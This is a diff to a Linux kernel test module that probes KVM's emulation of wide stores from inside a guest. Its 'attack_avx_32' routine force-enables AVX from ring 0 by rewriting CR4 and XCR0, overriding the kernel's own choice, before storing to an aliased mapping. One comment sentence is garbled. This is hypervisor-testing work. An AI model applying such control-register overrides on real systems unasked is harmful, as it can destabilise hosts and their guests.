@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /* Stores of 16 and 32 bytes: KVM splits the first in two, and may not be able to emulate the second at all. */
-#include <asm/cpufeature.h>
 #include <asm/fpu/api.h>
+#include <asm/fpu/types.h>
+#include <asm/processor.h>
 #include <linux/string.h>
 
 #include "attacks.h"
@@ -11,6 +12,8 @@ static void value(const struct rf_report *r, u8 *to)
 	for (unsigned int i = 0; i < r->len; i++)
 		to[i] = r->before[i] ^ 1;
 }
+
+#define AVX_BITS (BIT(26) | BIT(28))	/* CPUID.1:ECX XSAVE and AVX */
 
 /* The module is built without vector registers, so the compiler cannot be told which one this takes. */
 #define WIDE(load, store)									\
@@ -38,13 +41,50 @@ void attack_sse_16(struct rf_report *r)
 	WIDE("movups (%[v]), %%xmm0", "movups %%xmm0, (%[p])");
 }
 
+/*
+ * A kernel that found the machine's XSAVE inconsistent runs without AVX: emulated SVM does not tell KVM of XSETBV, so
+ * every guest there. An attacker in ring 0 turns it on for himself, and so does this. Returns what to restore.
+ */
+static unsigned long avx_on(void)
+{
+	unsigned long cr4;
+
+	asm volatile("mov %%cr4, %0" : "=r"(cr4));
+	asm volatile("mov %0, %%cr4" : : "r"(cr4 | X86_CR4_OSXSAVE) : "memory");
+	asm volatile("xgetbv\n	orl %[bits], %%eax\n	xsetbv"
+		     : : [bits] "i"(XFEATURE_MASK_FP | XFEATURE_MASK_SSE | XFEATURE_MASK_YMM), "c"(0) : "rax", "rdx", "cc");
+	return cr4;
+}
+
 void attack_avx_32(struct rf_report *r)
 {
+	struct rf_alias alias;
+	unsigned long faulted = 1, cr4;
+	unsigned int tries = 0;
+	bool stuck;
 	u8 bytes[32];
 
-	if (!boot_cpu_has(X86_FEATURE_AVX)) {
+	/* CPUID itself: the kernel's own view says no in the case above. */
+	if ((cpuid_ecx(1) & AVX_BITS) != AVX_BITS) {
 		rf_skip(r, "this processor has no AVX");
 		return;
 	}
-	WIDE("vmovdqu (%[v]), %%ymm0", "vmovdqu %%ymm0, (%[p])");
+	if (!rf_aim_banner(r, &alias, sizeof(bytes), sizeof(bytes)))
+		return;
+	value(r, bytes);
+	rf_guard_begin();
+	kernel_fpu_begin();
+	do {
+		/* An exit in between puts KVM's idea of XCR0 back, and the instruction is undefined: try again. */
+		cr4 = avx_on();
+		asm volatile("3:	vmovdqu (%[v]), %%ymm0\n" RF_STORE("vmovdqu %%ymm0, (%[p])") _ASM_EXTABLE(3b, 2b)
+			     : [f] "+r"(faulted) : [v] "r"(bytes), [p] "r"(alias.at) : "memory", "cc");
+		asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
+	} while (faulted && ++tries < 3);
+	kernel_fpu_end();
+	stuck = rf_guard_end();
+	if (stuck)
+		rf_say(r, "stuck=yes");
+	rf_judge(r, faulted);
+	rf_alias_unmap(&alias);
 }
